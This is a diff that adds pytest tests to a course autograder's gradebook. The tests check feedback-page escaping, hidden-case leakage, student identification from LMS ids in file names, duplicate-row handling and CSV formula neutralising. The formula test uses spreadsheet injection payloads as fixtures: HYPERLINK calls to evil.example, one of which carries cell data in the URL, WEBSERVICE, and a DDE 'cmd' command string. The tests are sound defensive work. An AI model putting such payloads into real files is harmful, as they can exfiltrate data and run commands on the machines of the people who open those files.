@@ -167,8 +167,76 @@ def test_a_feedback_page_escapes_what_the_student_wrote():
               "questions": [{"label": "ex-1", "title": "Exercise 1", "auto": "1", "auto_possible": "2",
                              "written": None, "written_possible": None,
                              "parts": [{"function": "f", "public_passed": False, "public": "0", "public_possible": "1",
-                                        "message": "raised ValueError: <b>bold</b>", "hidden_passed": 3,
-                                        "hidden_total": 3, "hidden_note": "", "hidden": "1", "hidden_possible": "1"}]}]}
+                                        "message": "raised ValueError: <b>bold</b>", "hidden_passed": 2,
+                                        "hidden_total": 3, "hidden": "0", "hidden_possible": "1"}]}]}
     page = gradebook.feedback_html(record)
     assert "<script>" not in page and "&lt;script&gt;" in page and "&lt;b&gt;bold&lt;/b&gt;" in page
-    assert "3 of 3 passed" in page and "1 of 2" in page and "a&amp;b.ipynb" in page
+    assert "2 of 3 passed, 0 earned" in page and "1 of 2" in page and "a&amp;b.ipynb" in page
+    # how many hidden cases passed, never which failed or how (a function that sees every hidden case could
+    # choose which fail, and how, to pass a few bits out a regrade)
+    hidden = page.split("Hidden cases")[1].split("</p>")[0]
+    assert "failure" not in hidden and "exception" not in hidden and "wrong" not in hidden
+
+
+def test_the_lms_id_comes_from_its_place_in_the_file_name_and_the_student_cell_never_overrides_it(tmp_path):
+    """A file name carrying two LMS ids and a STUDENT cell naming the victim was matched to the victim (two ids in
+    the name: ambiguous, so the STUDENT cell decided). The id is read where Canvas and Moodle write it."""
+    roster = Roster.load(_roster(tmp_path))
+    carol, how, notes = roster.identify("smithcarol_12345_998877_seli_654321.ipynb", "s002")
+    assert carol.student_id == "s001" and how == "LMS id in the file name"
+    assert notes and "STUDENT cell says 's002'" in notes[0] and "graded as s001" in notes[0]
+    assert roster.identify("ngdan_654321_1_seli_12345.ipynb", "Dan Ng") == (roster.students[1],
+                                                                            "LMS id in the file name", [])
+    assert roster.identify("Eve Moss_777_assignsubmission_file_seli_12345.ipynb", None)[0].student_id == "s003"
+    # an LMS id the roster lacks matches no one, whatever the cell says
+    assert roster.identify("mallory_999_1_seli.ipynb", "s001")[0] is None
+    assert gradebook.lms_id_in("seli_12345_final.ipynb") is None  # numbers elsewhere in a name do not count
+
+
+def test_export_and_merge_refuse_a_student_with_several_rows_unless_told_which_counts(tmp_path):
+    out = _results(tmp_path, Points.of(QUESTIONS))
+    rows = list(csv.DictReader((out / "scores.csv").open()))
+    rows.append({**rows[1], "id": "d-9", "submission": "ngdan_654321_2_seli.ipynb", "total": "8", "autograded": "8"})
+    columns = list(rows[0])
+    gradebook.write_csv(out / "scores.csv", columns, rows)
+    roster = Roster.load(_roster(tmp_path))
+    for act in (lambda keep: gradebook.export(out, roster, "canvas", assignment="A", keep=keep, log=lambda *_: None),
+                lambda keep: gradebook.merge(out, keep=keep, log=lambda *_: None)):
+        with pytest.raises(SystemExit, match=r"(?s)1 student\(s\) have several rows.*--keep.*s002: 'd.ipynb', "
+                                             r"'ngdan_654321_2_seli.ipynb'"):
+            act(())
+        with pytest.raises(SystemExit, match="--keep names 2 of them"):
+            act(("d.ipynb", "d-9"))
+    path = gradebook.export(out, roster, "canvas", assignment="A", keep=("d.ipynb",), log=lambda *_: None)
+    got = {r[2]: r[5] for r in csv.reader(path.open(newline=""))}
+    assert got["s002"] == "2"  # the kept row, not the last by file name (8)
+    rows.append({**rows[0], "submission": "copy.ipynb"})  # two rows of one id: no export can tell them apart
+    gradebook.write_csv(out / "scores.csv", columns, rows)
+    with pytest.raises(SystemExit, match="the id 'c-1' names 2 rows"):
+        gradebook.export(out, roster, "canvas", assignment="A", keep=("d.ipynb",), log=lambda *_: None)
+
+
+FORMULA = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_no_field_of_a_written_csv_starts_like_a_formula(tmp_path):
+    """A submission's file name, its STUDENT value and its written answers reach scores.csv, the answers CSVs and
+    the exports: each field that a spreadsheet would read as a formula is neutralised."""
+    out = _results(tmp_path, Points.of(QUESTIONS))
+    rows = list(csv.DictReader((out / "scores.csv").open()))
+    rows[0].update(submission='=HYPERLINK("http://evil.example","x").ipynb', student="@SUM(1+1)", review="-2+3")
+    gradebook.write_csv(out / "scores.csv", list(rows[0]), rows)
+    answers = out / "answers" / "ex-a-1.csv"
+    table = list(csv.DictReader(answers.open()))
+    for r, text in zip(table, ['=HYPERLINK("https://evil.example/?"&E2,"see")', "+WEBSERVICE(1)", "\t=1+1"]):
+        r["answer"] = text
+    gradebook.write_csv(answers, list(table[0]), table)
+    roster_path = tmp_path / "roster-evil.csv"
+    roster_path.write_text("student_id,name,lms_id\ns001,=cmd|' /C calc'!A0,12345\ns002,Dan Ng,654321\n")
+    files = [out / "scores.csv", answers,
+             gradebook.export(out, Roster.load(roster_path), "canvas", assignment="A", log=lambda *_: None),
+             gradebook.export(out, Roster.load(roster_path), "moodle", assignment="A", log=lambda *_: None)]
+    fields = [v for f in files for row in csv.reader(f.open(newline="", encoding="utf-8")) for v in row]
+    assert fields and not [v for v in fields if v.startswith(FORMULA)], [v for v in fields if v.startswith(FORMULA)]
+    assert "'=HYPERLINK(\"http://evil.example\",\"x\").ipynb" in fields and "'=cmd|' /C calc'!A0" in fields
+    assert gradebook.csv_safe("'=x") == "'=x" and gradebook.csv_safe("3") == "3"
